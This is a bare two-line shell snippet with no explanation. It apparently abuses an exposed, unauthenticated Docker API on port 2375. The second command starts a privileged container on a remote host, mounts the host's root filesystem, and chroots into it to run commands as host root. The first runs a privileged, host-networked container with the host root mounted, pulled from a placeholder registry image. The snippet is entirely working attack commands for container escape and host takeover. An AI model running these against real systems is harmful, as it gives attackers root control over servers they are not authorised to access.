docker run --rm -d --privileged --net host -v /:/host example.invalid/dockerapi
docker -H tcp://198.51.100.20:2375 run -d -v /:/mnt --privileged alpine chroot /mnt sh -c 'id'
